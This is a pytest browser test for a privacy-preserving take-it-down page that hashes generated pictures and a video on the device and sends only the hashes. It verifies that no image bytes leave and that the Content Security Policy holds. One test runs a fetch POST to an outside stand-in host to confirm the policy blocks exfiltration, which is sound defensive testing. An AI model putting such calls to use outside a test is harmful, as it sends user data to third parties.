"""The take-it-down page in a real browser (Debian's Chromium through Playwright) against `vigil
serve`: a person picks generated pictures and a short video, the page hashes them on the device, the
hashes equal Vigil's own, the person sends them and checks the case with the code. Every request the
page makes is recorded: only the page's own files, and POSTs of JSON holding hashes, none carrying a
byte of the pictures."""

from __future__ import annotations

import hashlib
import json
import re

import numpy as np
import pytest
from PIL import Image

from tests.videos import write_video
from tests.web.browser import CHROMIUM, FLAGS, need_browser, serious_violations, serve, shoot
from vigil.exchange import selfreport
from vigil.media.video import vpdq_hash
from vigil.reports.accounts import Accounts
from vigil.signals.pdq import pdq_from_luma
from vigil.store import open_database

ORG = "Helpline Demo"
CODE = re.compile(r"TD-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}")


def _pictures(folder) -> list:
    """Benign generated pictures: a smooth gradient with shapes (JPEG) and noise with text (PNG)."""
    rng = np.random.default_rng(7)
    y, x = np.mgrid[0:600, 0:800]
    smooth = np.stack([x * 255 // 800, y * 255 // 600, (x + y) * 255 // 1400], axis=-1).astype(np.uint8)
    smooth[200:400, 300:500] = (240, 200, 40)
    noisy = rng.integers(0, 256, (480, 640, 3), dtype=np.uint8)
    paths = [folder / "beach.jpg", folder / "pattern.png"]
    Image.fromarray(smooth).save(paths[0], quality=90)
    Image.fromarray(noisy).save(paths[1])
    return paths


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    need_browser()
    folder = tmp_path_factory.mktemp("takeitdown")
    db = str(folder / "vigil.db")
    Accounts(open_database(db)).create_org(ORG, "hotline", "NL")
    server, base = serve(
        db, {"VIGIL_TAKEITDOWN_LANGUAGES": "en,nl,de,fr", "VIGIL_PUBLIC_RATE": "100/60"}, "--public-org", ORG
    )
    files = _pictures(folder) + [write_video(folder / "walk.mp4", range(4))]
    yield {"base": base, "db": db, "files": files}
    server.terminate()
    server.wait(10)


@pytest.fixture
def page(site):
    sync = need_browser()
    with sync.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        context = browser.new_context(
            viewport={"width": 390, "height": 844}, base_url=site["base"]
        )  # a phone
        tab = context.new_page()
        requests = []
        tab.on("request", lambda r: requests.append(r))
        yield tab, requests
        context.close()
        browser.close()


def _python_hashes(path) -> dict:
    data = path.read_bytes()
    out = {"md5": hashlib.md5(data).hexdigest(), "sha256": hashlib.sha256(data).hexdigest()}
    if path.suffix == ".mp4":
        out["vpdq"] = [(f.number, f.pdq.hex()) for f in vpdq_hash(str(path)).frames]
    else:
        with Image.open(path) as im:
            out["pdq"] = pdq_from_luma(np.asarray(im.convert("RGB").convert("L"))).hex
    return out


def test_pick_hash_send_and_check_status_and_only_hashes_leave(page, site):
    tab, requests = page
    tab.goto("/takeitdown")
    assert tab.title() == "Take it down"
    shoot(tab, "takeitdown-empty")
    assert serious_violations(tab) == []
    tab.get_by_label("Choose pictures or videos").set_input_files([str(p) for p in site["files"]])
    tab.locator("#send:enabled").wait_for(timeout=60_000)  # (no wait_for_function: the CSP forbids eval)
    sent = json.loads(tab.locator("#payload").text_content())
    assert [i["kind"] for i in sent] == ["image", "image", "video"]
    for item, path in zip(sent, site["files"], strict=True):
        want = _python_hashes(path)
        assert (item["md5"], item["sha256"]) == (want["md5"], want["sha256"]), path.name
        if "pdq" in want:
            distance = bin(int(item["pdq"], 16) ^ int(want["pdq"], 16)).count("1")
            assert distance <= 8, (path.name, distance)  # bit for bit on these; the bound the helper measured
        else:
            assert [f["frame"] for f in item["vpdq"]] == [n for n, _ in want["vpdq"]]
    shoot(tab, "takeitdown-ready")
    tab.get_by_role("button", name="Send the codes").click()
    code = tab.locator("#code")
    code.wait_for(state="visible")
    case_code = CODE.search(code.text_content()).group(0)
    shoot(tab, "takeitdown-sent")

    tab.get_by_role("link", name="Check a case").click()
    tab.get_by_label("Your case code").fill(case_code.lower())
    tab.get_by_role("button", name="Check").click()
    tab.get_by_text("codes on").wait_for()
    assert "of 0 member organisations" in tab.locator("#status").text_content()
    shoot(tab, "takeitdown-status")
    assert serious_violations(tab) == []

    images = [p.read_bytes() for p in site["files"]]
    for r in requests:
        assert r.url.startswith((site["base"], "blob:", "data:")), r.url
        if r.method != "GET":
            assert r.url.endswith(("/v1/takeitdown/submissions", "/v1/takeitdown/status")), r.url
            body = r.post_data_buffer or b""
            json.loads(body)  # JSON, nothing else
            assert len(body) < 64_000
            for data in images:  # no run of 64 bytes of any picture, raw or hex
                for start in range(0, len(data) - 64, max(1, len(data) // 50)):
                    chunk = data[start : start + 64]
                    assert chunk not in body and chunk.hex().encode() not in body
    posts = [r for r in requests if r.method == "POST" and r.url.endswith("/submissions")]
    assert len(posts) == 1
    body = json.loads(posts[0].post_data_buffer)
    assert set(body) == {"submission", "items"}
    assert all(set(i) <= {"kind", "md5", "sha256", "pdq", "quality", "vpdq"} for i in body["items"])
    db = open_database(site["db"])
    assert selfreport.status(db, case_code)["hashes"] >= 6


def test_the_page_speaks_the_configured_languages_and_forbids_other_destinations(page, site):
    tab, _ = page
    answer = tab.goto("/takeitdown?lang=nl")
    csp = answer.headers["content-security-policy"]
    assert "connect-src 'self'" in csp and "form-action 'none'" in csp and "default-src 'none'" in csp
    assert tab.locator("html").get_attribute("lang") == "nl"
    assert tab.get_by_label("Kies foto's of video's").is_visible()
    blocked = tab.evaluate(
        """async () => {
            try { await fetch('http://example.org/collect', {method: 'POST', body: 'x'}); return false; }
            catch (e) { return true; }
        }"""
    )
    assert blocked  # the CSP refuses any other destination
    tab.goto("/takeitdown?lang=xx")  # not offered: the first configured language
    assert tab.locator("html").get_attribute("lang") == "en"
